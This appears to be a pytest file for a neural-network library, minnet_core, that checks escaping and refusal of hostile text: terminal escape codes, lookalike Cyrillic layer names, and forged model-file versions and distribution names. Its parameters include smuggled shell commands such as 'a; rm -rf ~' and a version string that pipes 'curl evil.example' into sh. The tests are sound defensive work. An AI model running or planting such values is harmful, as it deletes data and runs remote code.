"""Nothing that a stranger writes reaches a terminal or an advice as it is: escapes are fed through each door."""

from __future__ import annotations

import json
import struct
from importlib.metadata import Distribution

import numpy as np
import pytest
from attrs import evolve
from safetensors.numpy import save_file

from minnet_core import (
    ConfigError,
    MinnetError,
    ModelFileError,
    ModelHeader,
    Sequential,
    UnknownComponentError,
    build,
    layers,
    load,
    read_header,
    save,
)
from minnet_core.discovery import Declaration, InstalledDistribution
from minnet_core.errors import described
from minnet_core.plugins import Registrar
from minnet_core.saving.model_header import KEY, parse_header
from minnet_core.support import printable, printable_lines, render_html_table, render_table, spelled
from minnet_core.testing import install_distribution

EVIL = "\x1b[2J\x1b]0;title\x07\x9b31m\u202e\u200b\r"
"""What a terminal obeys: clears the screen, sets its title, turns red, reverses the line, and begins it anew."""


def is_harmless(text):
    return all(line.isprintable() for line in text.split("\n"))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Größe 層 🙂 a\\b 'c'", "Größe 層 🙂 a\\b 'c'"),
        ("a\x1b[2Jb", r"a\x1b[2Jb"),
        ("one\ntwo\r\t", r"one\ntwo\r\t"),
        ("\u202egnp.exe", r"\u202egnp.exe"),
        ("half \ud800", r"half \ud800"),
        ("\U000e0041", r"\U000e0041"),
        ("a\u2028b\u2029c\x85d\x7f", r"a\u2028b\u2029c\x85d\x7f"),
        ("\x1b]8;;http://evil\x1b\\text", r"\x1b]8;;http://evil\x1b\text"),
        ("a\u3164\u115f\u2800\ufe00\U000e0101\u034f", r"a\u3164\u115f\u2800\ufe00\U000e0101\u034f"),
        ("e\u0301 \u05e9\u05c1\u05b8 \u2764\ufe0f", "e\u0301 \u05e9\u05c1\u05b8 \u2764\ufe0f"),
        ("a" + 6 * "\u0301" + "b" + 2 * "\u20dd", "a" + 4 * "\u0301" + 2 * r"\u0301" + "b" + 2 * "\u20dd"),
        ("", ""),
    ],
)
def test_what_cannot_be_printed_becomes_an_escape_and_all_else_stays(text, shown):
    assert printable(text) == shown


def test_a_long_text_keeps_its_beginning_and_its_end():
    text = printable("begin" + "\n" * 1_000_000 + "end")
    assert text.startswith("begin\\n")
    assert text.endswith("\\nend")
    assert "characters left out" in text
    assert len(text) < 1100
    assert printable("x" * 1000) == "x" * 1000


def test_lines_stay_lines_and_the_last_ones_of_many_are_counted():
    assert printable_lines("a\n\tb\x07\n") == "a\n        b\\x07\n"
    text = printable_lines("\n".join(["x" * 99] * 10_000))
    assert len(text) < 5000
    assert text.endswith("\n... (9,959 more lines)")


def test_letters_that_look_like_others_are_named():
    assert spelled("Linear") == ""
    assert spelled("L\u0456n\u0435ar\u0456") == (
        " (its '\u0456' is CYRILLIC SMALL LETTER BYELORUSSIAN-UKRAINIAN I, its '\u0435' is CYRILLIC SMALL LETTER IE)"
    )
    with pytest.raises(UnknownComponentError, match=r"'S\u0435quential' \(its '\u0435' is CYRILLIC .*'Sequential'\?"):
        layers["S\u0435quential"]


def test_every_error_of_ours_is_harmless_and_short():
    for kind in (MinnetError, ConfigError, ModelFileError, UnknownComponentError):
        text = str(kind(f"first {EVIL}\nsecond {EVIL * 100_000} the end"))
        assert is_harmless(text)
        assert text.startswith(r"first \x1b[2J")
        assert text.endswith("the end")
        assert len(text) < 5000
    with pytest.raises(ConfigError) as caught:
        build({"class": "Sequential", "modules": "x" * 1_000_000})
    assert len(str(caught.value)) < 5000


def test_an_error_is_described_without_the_escapes_of_its_text_and_its_type():
    error = type(f"Bad{EVIL}", (Exception,), {})(EVIL + "x" * 3_000_000)
    assert is_harmless(described(error))
    assert len(described(error)) < 1100


def test_tables_are_harmless():
    assert is_harmless(render_table([f"a{EVIL}"], [[f"b{EVIL}\nc"]]))
    assert len(render_table(["a"], [["b\nc"]]).splitlines()) == 2
    assert is_harmless(render_html_table(["a"], [[f"b{EVIL}"]]))


SOURCE = f"""
from minnet_core import Example, Module, hookimpl
print({EVIL!r})
class Strange(Module):
    \"\"\"A layer.{EVIL.replace(chr(13), "")} \"\"\"
    EXAMPLES = (Example(input=(2, 3)),)
    def updateOutput(self, input): raise ValueError({EVIL!r} + 3_000_000 * "x")
@hookimpl
def minnet_checks(): raise ValueError({EVIL!r})
"""
HOOKS = """
import click
from minnet_core import hookimpl
@hookimpl
def minnet_commands(): return [click.Command(%r, help=%r)]
"""


def add_points(site, name, text):
    (path,) = site.glob(f"{name.replace('-', '_')}-*.dist-info")
    (path / "entry_points.txt").write_text(text, "utf-8", newline="\n")
    layers.refresh()


@pytest.mark.parametrize(
    "command",
    [
        ["plugins"],
        ["doctor"],
        ["layers"],
        ["explain", "Strange"],
        ["check", "Strange"],
        ["check", "strange-a"],
        ["--help"],
        ["explain", EVIL],
    ],
)
def test_commands_print_nothing_of_it_raw(site, run_minnet, command):
    install_distribution(site, "strange-a", {"strange_a": SOURCE})
    evil = EVIL.replace("\r", "")
    points = f"[minnet.layers]\nStrange = strange_a:Strange\nE{evil}vil = strange_a{evil}:X{evil}\n"
    add_points(site, "strange-a", f"{points}L\u0456near = strange_a:Strange\n[minnet]\nit = strange_a\n")
    for index, (name, summary) in enumerate([(f"fit{evil}", "Fit."), ("fit", f"Fit {evil}."), ("good", "Good.")]):
        module = f"strange_c{index}"
        install_distribution(site, f"strange-c{index}", {module: HOOKS % (name, summary)})
        add_points(site, f"strange-c{index}", f"[minnet]\nit = {module}\n")
    _, out, err = run_minnet(*command)
    assert is_harmless(out + err + repr(layers))
    assert len(out + err) < 40_000


def test_a_component_that_looks_like_another_is_remarked(site, run_minnet):
    install_distribution(site, "strange-a", {"strange_a": "from minnet_core import Module\nclass X(Module): ...\n"})
    add_points(site, "strange-a", "[minnet.layers]\nS\u0435quential = strange_a:X\nΔSequ = strange_a:X\n")
    findings = json.loads(run_minnet("doctor", "--json")[1])["findings"]
    (finding,) = [each for each in findings if each["distribution"] == "strange-a"]
    assert finding["kind"] == "mistyped"
    assert finding["cause"] == (
        "S\u0435quential among the layers looks like minnet-core:Sequential (its '\u0435' is CYRILLIC SMALL LETTER IE)"
    )


@pytest.mark.parametrize(
    "name", ["Sequentia\uff4c", "Sequent\u2170al", "Sequential\u0301", "Sequent\ufb01al", "Sequen\u200btial"]
)
def test_wide_letters_ligatures_accents_and_what_is_invisible_look_like_others(site, run_minnet, name):
    install_distribution(site, "strange-a", {"strange_a": "from minnet_core import Module\nclass X(Module): ...\n"})
    add_points(site, "strange-a", f"[minnet.layers]\nSequentfial = strange_a:X\n{name} = strange_a:X\n")
    findings = json.loads(run_minnet("doctor", "--json")[1])["findings"]
    assert [each["kind"] for each in findings if each["distribution"] == "strange-a"] == ["mistyped"]


def test_a_version_that_would_begin_another_line_is_refused(tmp_path):
    class Strange(Distribution):
        def read_text(self, filename):
            entry = "[minnet.layers]\nX = x:X\n"
            return entry if filename == "entry_points.txt" else f"Name: strange-a\nVersion: {self.number}\n"

        def locate_file(self, path):
            return tmp_path / path

    for Strange.number in ("1.0\n ; all is well", "1 0", "1.0\x1b[2J", "1.0\u202e"):
        with pytest.raises(ValueError, match="expected a version that is a word, received '"):
            InstalledDistribution.read(Strange())


def test_no_plugin_registers_a_name_that_would_begin_another_line():
    registrar = Registrar(Declaration("it", "strange-a", "1", "strange_a"))
    for name in (f"X{EVIL}", "X\nwarning: all is well"):
        with pytest.raises(TypeError, match="expected a name that can be printed, received 'X"):
            registrar.register("layers", Sequential, name)


FORGED = "x\nwarning: this is not from minnet"


def test_no_key_of_a_model_file_and_no_file_name_begins_another_line(tmp_path):
    def lines(header, name="m"):
        save_file({}, tmp_path / name, metadata={KEY: header})
        with pytest.raises(ModelFileError) as caught:
            load(tmp_path / name)
        return str(caught.value).split("\n")

    header = ModelHeader(config={"class": "minnet-core:Sequential"}, components={"minnet-core:Sequential": "0.1.0"})
    whole = json.loads(header.to_json())
    unknown = evolve(header, attributes={FORGED: 1})
    assert len(lines(json.dumps({**whole, FORGED: 1}))) == 1
    assert len(lines(evolve(unknown, digest=unknown.digest_with({})).to_json())) == 1
    assert len(lines("{}", FORGED)) == 1


@pytest.mark.parametrize("name", ["a; rm -rf ~", "-rf", "--index-url=x", "a'b", "$(x)", "a\x1b[2J", "S\u0435quential"])
def test_no_name_of_a_distribution_is_a_command(tmp_path, name):
    class Strange(Distribution):
        def read_text(self, filename):
            entry = "[minnet.layers]\nX = x:X\n"
            return entry if filename == "entry_points.txt" else f"Name: {name}\nVersion: 1\n"

        def locate_file(self, path):
            return tmp_path / path

    with pytest.raises(ValueError, match="expected a name of letters, digits"):
        InstalledDistribution.read(Strange())


@pytest.mark.parametrize("name", ["minnet-x; rm -rf ~:Foo", "minnet-'x':Foo", "minnet-x\n:Foo", "minnet-$(x):Foo"])
def test_what_is_no_name_of_a_distribution_is_never_advised(name):
    with pytest.raises(UnknownComponentError) as caught:
        build({"class": name})
    assert "pip install" not in str(caught.value)


def test_what_is_advised_is_quoted_as_the_shell_or_python_needs():
    with pytest.raises(
        UnknownComponentError, match=r"--import 'x;y.py', or minnet_core.import_components\('x;y.py'\)$"
    ):
        layers["x;y.py:Foo"]
    with pytest.raises(UnknownComponentError, match=r"layers.register\(cls, \"Foo\); print\('x'\"\)$"):
        layers["local:Foo); print('x'"]


def forge(components):
    header = json.loads(ModelHeader(config={}, components={}).to_json())
    return {KEY: json.dumps({**header, "components": components})}


@pytest.mark.parametrize(
    "version",
    [
        "1.0'; curl evil.example | sh; echo '",
        "1.0 ",
        "\n1.0",
        "latest",
        "",
        "1.0\x1b[2J",
        "1.0;x",
        "-1",
        "x" * 100_000,
        "1" + ".0" * 50,
    ],
)
def test_a_model_file_with_what_is_no_version_is_refused(version):
    with pytest.raises(ModelFileError, match=r"^m: its minnet header is damaged: ") as caught:
        parse_header(forge({"strange-a:X": version}), "m")
    assert len(str(caught.value)) < 5000
    assert is_harmless(str(caught.value))


@pytest.mark.parametrize("version", ["1", "0.1.0", "1.0rc1", "2!1.0.post3.dev4+local.7", "v1.0", None])
def test_every_version_is_one(version):
    assert parse_header(forge({"strange-a:X": version}), "m").components == {"strange-a:X": version}


@pytest.mark.parametrize(
    "name", ["-r", "--pre", "a--b", "a-", "a b", "a'b", "A", "a_b", "m\u0456nnet", "a\n", "x;y", ""]
)
def test_a_model_file_with_what_is_no_normalized_name_is_refused(name):
    with pytest.raises(ModelFileError, match=r"^m: its minnet header is damaged: "):
        parse_header(forge({f"{name}:X": "1.0"}), "m")


@pytest.mark.parametrize("path", [f"a{EVIL}b", "x" * 200])
def test_a_file_name_is_harmless(tmp_path, path):
    save_file({"w": np.ones(2)}, tmp_path / path)
    with pytest.raises(ModelFileError) as caught:
        load(tmp_path / path)
    assert is_harmless(str(caught.value))


@pytest.mark.parametrize(
    ("dtype", "shape"),
    [("F32", [1] * 70), ("F8_E4M3", [4]), ("F8_E5M2", [4]), ("BF16", [2]), ("F32", [1] * 5000), ("F4", [8])],
)
def test_an_array_that_numpy_cannot_hold_is_an_error_of_ours_and_short(tmp_path, dtype, shape):
    header = {"w": {"dtype": dtype, "shape": shape, "data_offsets": [0, 4]}}
    header["__metadata__"] = {KEY: ModelHeader(config={}, components={}).to_json()}
    text = json.dumps(header).encode()
    (tmp_path / "m").write_bytes(struct.pack("<Q", len(text)) + text + b"\0\0\0\0")
    with pytest.raises(ModelFileError, match="m: ") as caught:
        load(tmp_path / "m")
    assert len(str(caught.value)) < 5000


def test_a_model_of_a_distribution_whose_version_is_none_can_be_saved(site, tmp_path):
    source = "from minnet_core import Module\nclass X(Module): ...\n"
    install_distribution(site, "strange-a", {"strange_a": source}, entry_points={"minnet.layers": {"X": "strange_a:X"}})
    (path,) = site.glob("strange_a-*.dist-info/METADATA")
    path.write_text(path.read_text().replace("Version: 0.1.0", "Version: newest"))
    layers.refresh()
    saved = tmp_path / "m"
    save(Sequential(layers["X"]()), saved)
    assert read_header(saved).components["strange-a:X"] is None
    assert len(load(saved).modules) == 1
